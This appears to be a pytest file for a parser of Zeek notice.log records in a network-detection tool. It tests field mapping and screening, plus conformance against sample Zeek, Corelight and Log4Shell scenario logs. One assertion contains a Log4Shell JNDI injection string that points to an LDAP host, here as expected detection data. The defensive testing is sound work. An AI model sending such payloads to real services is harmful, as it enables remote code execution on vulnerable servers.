"""Zeek's notice.log."""

import pytest

from vedette.model.address_set import AddressSet
from vedette.telemetry.interface import Account, Screen
from vedette.telemetry.source import Source
from vedette.telemetry.zeek_notice import ZeekNotice

FIELDS = [
    "ts",
    "uid",
    "id.orig_h",
    "id.orig_p",
    "id.resp_h",
    "id.resp_p",
    "proto",
    "note",
    "msg",
    "sub",
    "src",
    "dst",
    "p",
]
HEAD = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tnotice\n"


def read(path):
    rows, account = [], Account()
    for batch in ZeekNotice().read(Source(str(path), path), None):
        rows += batch.frame.rows(named=True)
        account.add(batch.account)
    return rows, account


def written(tmp_path, fields=FIELDS, **said):
    path = tmp_path / "notice.log"
    cells = "\t".join(said.get(name.replace(".", "_"), "-") for name in fields)
    path.write_text(HEAD + "#fields\t" + "\t".join(fields) + "\n" + cells + "\n")
    return read(path)


def test_a_notice_of_a_flow_has_its_tuple_and_words(tmp_path):
    ((row,), _) = written(
        tmp_path,
        id_orig_h="203.0.113.7",
        id_orig_p="4000",
        id_resp_h="192.0.2.1",
        id_resp_p="80",
        proto="tcp",
        note="SSH::Password_Guessing",
        msg="guessing",
        sub="Sampled: x",
        src="198.51.100.1",
        dst="198.51.100.2",
        p="22",
    )
    assert (row["client_ip"], row["client_port"]) == ("203.0.113.7", 4000)
    assert (row["server_ip"], row["server_port"], row["transport"]) == ("192.0.2.1", 80, "tcp")
    assert (row["notice"], row["message"]) == ("SSH::Password_Guessing", "guessing | Sampled: x")


def test_a_notice_of_a_host_says_it_elsewhere(tmp_path):
    ((row,), _) = written(
        tmp_path, note="Scan::Port_Scan", msg="m", src="203.0.113.7", dst="192.0.2.1", p="22"
    )
    assert (row["client_ip"], row["server_ip"], row["server_port"]) == ("203.0.113.7", "192.0.2.1", 22)
    assert row["message"] == "m"


def test_a_notice_of_no_host_is_ignored_and_counted(tmp_path):
    rows, account = written(tmp_path, note="CaptureLoss::Too_Much_Loss", msg="m")
    assert rows == []
    assert (account.ignored, account.rejected, account.lines) == (7, 0, 7)


@pytest.mark.parametrize(
    "fields", [("note", "msg", "src"), ("id.orig_h", "note", "msg"), ("note", "msg", "sub", "src")]
)
def test_a_subset_of_the_fields_is_enough(tmp_path, fields):
    ((row,), _) = written(tmp_path, fields, note="A::B", msg="m", src="203.0.113.7", id_orig_h="203.0.113.7")
    assert (row["client_ip"], row["notice"], row["message"]) == ("203.0.113.7", "A::B", "m")


@pytest.mark.conformance
def test_every_notice_with_a_host_in_zeeks_and_corelights_logs_is_read(shared_data):
    logs = [
        *(shared_data / "telemetry/zeek/expected").rglob("notice.log"),
        *(shared_data / "telemetry/log4shell_corelight").glob("*notice.log"),
        *(shared_data / "scenarios").rglob("notice.log"),
    ]
    total = 0
    for log in logs:
        if ZeekNotice().sniff(log.read_bytes()[:65536], log.name) < 1:
            continue  # a test's own cut of the log, without header
        rows, account = read(log)
        assert account.rejected == 0, (log, account.samples)
        lines = log.read_text("utf-8", "replace").split("\n")
        assert all(row["client_ip"] in lines[row["line"] - 1] for row in rows)
        assert all(row["notice"] in lines[row["line"] - 1] for row in rows)
        total += len(rows)
    assert total >= 10


@pytest.mark.conformance
def test_the_full_chain_of_log4shell_is_told_with_its_payloads(shared_data):
    rows, _ = read(shared_data / "scenarios/S2_log4shell_full_chain/notice.log")
    assert [row["client_ip"] for row in rows] == ["10.10.10.31", "172.16.238.10", "172.16.238.10"]
    assert "${jndi:ldap://172.16.238.11:1389/a}" in rows[0]["message"]
    assert "javaClassName" in rows[1]["message"]


def test_a_finding_about_a_client_that_nobody_lists_passes_the_screen(tmp_path):
    written(
        tmp_path, id_orig_h="203.0.113.7", id_resp_h="192.0.2.1", note="SSH::Password_Guessing", msg="guessed"
    )
    nobody = AddressSet.of([])
    screen = Screen(home=nobody, known=nobody, literals=None, events=frozenset())
    source = Source("notice.log", tmp_path / "notice.log")
    found = [batch.frame["notice"].to_list() for batch in ZeekNotice().read(source, screen)]
    assert found == [["SSH::Password_Guessing"]]
